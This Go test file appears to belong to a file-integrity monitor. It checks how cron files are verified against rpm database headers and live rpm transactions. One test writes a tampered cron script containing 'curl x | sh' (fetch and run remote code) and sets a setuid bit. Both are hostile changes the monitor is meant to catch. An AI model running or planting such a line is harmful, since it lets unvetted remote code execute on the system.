package pkgdb

import (
	"bytes"
	"context"
	"crypto/sha256"
	"database/sql"
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"testing"

	"github.com/tripline/tripline/baseline"
	"github.com/tripline/tripline/proc"
)

// seedRPM is tripline-fx 1.0-1 as rpmbuild 4.18 built it: one noarch package with
// /etc/cron.daily/fx (mode 0755, "#!/bin/sh\necho fx\n", sha256 digests).
const seedRPM = "testdata/tripline-fx-1.0-1.noarch.rpm"

const seedContent = "#!/bin/sh\necho fx\n"

func TestParseRPMPackage(t *testing.T) {
	b, err := os.ReadFile(seedRPM)
	if err != nil {
		t.Fatal(err)
	}
	h, err := ParseRPMPackage(bytes.NewReader(b))
	if err != nil {
		t.Fatal(err)
	}
	if h.Name != "tripline-fx" || h.EVR() != "1.0-1" || h.Algo != AlgoSHA256 || len(h.Files) != 1 {
		t.Fatalf("%+v", h)
	}
	if f := h.Files[0]; f.Path != "/etc/cron.daily/fx" || f.Mode != 0o100755 || f.Digest != fmt.Sprintf("%x", sha256.Sum256([]byte(seedContent))) {
		t.Errorf("%+v", f)
	}
	// Every truncation is an error, never a panic; the rest of the file (the payload) is not
	// needed.
	for n := 0; n < len(b); n += 13 {
		if _, err := ParseRPMPackage(bytes.NewReader(b[:n])); err == nil && n < rpmLeadSize+16 {
			t.Errorf("%d bytes parsed", n)
		}
	}
	if _, err := ParseRPMPackage(strings.NewReader(strings.Repeat("x", 200))); err != errNotRPM {
		t.Errorf("not a package: %v", err)
	}
}

func FuzzParseRPMPackage(f *testing.F) {
	b, err := os.ReadFile(seedRPM)
	if err != nil {
		f.Fatal(err)
	}
	f.Add(b)
	f.Add(b[:rpmLeadSize+16])
	f.Fuzz(func(t *testing.T, b []byte) {
		h, err := ParseRPMPackage(bytes.NewReader(b))
		if err == nil && h.Name == "" {
			t.Fatal("a package without a name parsed")
		}
	})
}

// writeHeaders writes an rpmdb.sqlite holding the given headers, in that order, under root.
func writeHeaders(t testing.TB, root string, headers ...[]byte) {
	t.Helper()
	dir := filepath.Join(root, "var/lib/rpm")
	if err := os.MkdirAll(dir, 0o755); err != nil {
		t.Fatal(err)
	}
	db, err := sql.Open("sqlite3", "file:"+filepath.Join(dir, "rpmdb.sqlite"))
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	if _, err := db.Exec("CREATE TABLE IF NOT EXISTS Packages (hnum INTEGER PRIMARY KEY AUTOINCREMENT, blob BLOB NOT NULL)"); err != nil {
		t.Fatal(err)
	}
	for _, h := range headers {
		if _, err := db.Exec("INSERT INTO Packages(blob) VALUES(?)", h); err != nil {
			t.Fatal(err)
		}
	}
}

// self is this test process as the daemon's attribution names a writer.
func self(t *testing.T) *proc.Actor {
	t.Helper()
	p, err := proc.Read(os.DirFS("/proc"), int32(os.Getpid()))
	if err != nil {
		t.Fatal(err)
	}
	return &proc.Actor{Attribution: proc.AttrKernel, PID: p.PID, Process: &p}
}

// TestVerifyByInstalling plays an rpm transaction with this process as rpm: it has the root's
// rpmdb.sqlite open read-write and the package file open read-only, as rpm 4.18 has while it
// renames the new version's files into place and before it records that version.
func TestVerifyByInstalling(t *testing.T) {
	root := t.TempDir()
	const p = "/etc/cron.daily/fx"
	writeHeaders(t, root, rpmHeader("tripline-fx", "0.9", []string{p}))
	file := filepath.Join(root, p)
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(seedContent), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(file, 0o755); err != nil {
		t.Fatal(err)
	}
	e := stat(t, root, p)
	ix, err := Load(context.Background(), root, Options{})
	if err != nil {
		t.Fatal(err)
	}
	me := self(t)
	check := func(step string, a *proc.Actor, e *baseline.Entry, state baseline.PackageState, version string) {
		t.Helper()
		got := ix.VerifyBy(e, ContentReader(root), a)
		if got == nil || got.State != state || got.Version != version {
			t.Errorf("%s: %+v (%s: %s), want %s %s", step, got, got.State, got.Detail, state, version)
		}
	}
	check("no transaction", me, e, baseline.PkgModified, "0.9-1.el9")

	pkg, err := os.Open(seedRPM)
	if err != nil {
		t.Fatal(err)
	}
	defer pkg.Close()
	check("the package file open, but no database written", me, e, baseline.PkgModified, "0.9-1.el9")
	ro, err := os.Open(filepath.Join(root, "var/lib/rpm/rpmdb.sqlite"))
	if err != nil {
		t.Fatal(err)
	}
	check("the database open read-only (a query)", me, e, baseline.PkgModified, "0.9-1.el9")
	ro.Close()

	db, err := os.OpenFile(filepath.Join(root, "var/lib/rpm/rpmdb.sqlite"), os.O_RDWR, 0)
	if err != nil {
		t.Fatal(err)
	}
	defer db.Close()
	check("a transaction installing 1.0-1", me, e, baseline.PkgVerified, "1.0-1")
	if got := ix.VerifyBy(e, ContentReader(root), me); !strings.Contains(got.Detail, "package file") {
		t.Errorf("detail %q does not say where the version came from", got.Detail)
	}
	check("no writer", nil, e, baseline.PkgModified, "0.9-1.el9")
	// The same process: its start time, else its executable and arguments.
	for _, c := range []struct {
		what  string
		edit  func(p *proc.Process)
		state baseline.PackageState
	}{
		{"no start time (a kernel exec record)", func(p *proc.Process) { p.StartTime = 0 }, baseline.PkgVerified},
		{"another start time (a fork's record)", func(p *proc.Process) { p.StartTime++ }, baseline.PkgVerified},
		{"another start time and executable", func(p *proc.Process) { p.StartTime++; p.Exe = "/usr/bin/rpm" }, baseline.PkgModified},
		{"another start time and arguments", func(p *proc.Process) { p.StartTime++; p.Args = append(p.Args, "x") }, baseline.PkgModified},
		{"no executable", func(p *proc.Process) { p.StartTime = 0; p.Exe = "" }, baseline.PkgModified},
	} {
		other := *me.Process
		c.edit(&other)
		version := "0.9-1.el9"
		if c.state == baseline.PkgVerified {
			version = "1.0-1"
		}
		check(c.what, &proc.Actor{PID: other.PID, Process: &other}, e, c.state, version)
	}

	// Content that matches neither the package being installed nor the database is not verified.
	if err := os.WriteFile(file, []byte("#!/bin/sh\ncurl x | sh\n"), 0o755); err != nil {
		t.Fatal(err)
	}
	bad := stat(t, root, p)
	check("other content, during the transaction", me, bad, baseline.PkgModified, "0.9-1.el9")
	// A mode that differs is not a match either.
	if err := os.WriteFile(file, []byte(seedContent), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.Chmod(file, 0o755|os.ModeSetuid); err != nil {
		t.Fatal(err)
	}
	check("setuid, during the transaction", me, stat(t, root, p), baseline.PkgModified, "0.9-1.el9")
	if got := ix.inflight.pkgs; len(got) == 0 {
		t.Error("nothing remembered: the package file is parsed on every change")
	}
}

// Between rpm's two commits the database lists both versions: a path is the newer's.
func TestRPMUpgradeBothHeaders(t *testing.T) {
	root := t.TempDir()
	const p = "/etc/cron.daily/fx"
	writeHeaders(t, root, rpmHeader("tripline-fx", "1.0", []string{p}), rpmHeader("tripline-fx", "2.0", []string{p}))
	ix, err := Load(context.Background(), root, Options{})
	if err != nil {
		t.Fatal(err)
	}
	if f, ok := ix.Lookup(p); !ok || f.Pkg.Version != "2.0-1.el9" {
		t.Errorf("%+v", f)
	}
}

// A change judged against an index loaded before rpm recorded the new version is verified
// against the database as it is now.
func TestVerifyByFresher(t *testing.T) {
	root := t.TempDir()
	const p = "/etc/cron.daily/fx"
	writeHeaders(t, root, rpmHeader("other", "1.0", []string{"/etc/cron.daily/other"}))
	file := filepath.Join(root, p)
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		t.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(p), 0o755); err != nil { // rpmHeader's digest is of the path
		t.Fatal(err)
	}
	e := stat(t, root, p)
	c := NewCache(root, Options{})
	old, err := c.Index(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	if got := old.VerifyBy(e, nil, nil); got == nil || got.State != baseline.PkgUnowned {
		t.Fatalf("before: %+v", got)
	}
	writeHeaders(t, root, rpmHeader("tripline-fx", "2.0", []string{p}))
	if got := old.VerifyBy(e, nil, nil); got == nil || got.State != baseline.PkgVerified || got.Version != "2.0-1.el9" {
		t.Errorf("after rpm recorded 2.0: %+v", got)
	}
	if got := old.Verify(e, nil); got.State != baseline.PkgUnowned {
		t.Errorf("Verify reads only its own index: %+v", got)
	}
}

// BenchmarkVerifyByInstalling is the cost of a change made by an rpm transaction: the writer's
// fds looked at, the package file already parsed.
func BenchmarkVerifyByInstalling(b *testing.B) {
	root := b.TempDir()
	const p = "/etc/cron.daily/fx"
	writeHeaders(b, root, rpmHeader("tripline-fx", "0.9", []string{p}))
	file := filepath.Join(root, p)
	if err := os.MkdirAll(filepath.Dir(file), 0o755); err != nil {
		b.Fatal(err)
	}
	if err := os.WriteFile(file, []byte(seedContent), 0o755); err != nil {
		b.Fatal(err)
	}
	e, err := baseline.Stat(root, p, 0)
	if err != nil {
		b.Fatal(err)
	}
	ix, err := Load(context.Background(), root, Options{})
	if err != nil {
		b.Fatal(err)
	}
	pr, err := proc.Read(os.DirFS("/proc"), int32(os.Getpid()))
	if err != nil {
		b.Fatal(err)
	}
	me := &proc.Actor{PID: pr.PID, Process: &pr}
	pkg, err := os.Open(seedRPM)
	if err != nil {
		b.Fatal(err)
	}
	defer pkg.Close()
	db, err := os.OpenFile(filepath.Join(root, "var/lib/rpm/rpmdb.sqlite"), os.O_RDWR, 0)
	if err != nil {
		b.Fatal(err)
	}
	defer db.Close()
	b.ReportAllocs()
	for b.Loop() {
		if got := ix.VerifyBy(&e, nil, me); got.State != baseline.PkgVerified {
			b.Fatalf("%+v", got)
		}
	}
}
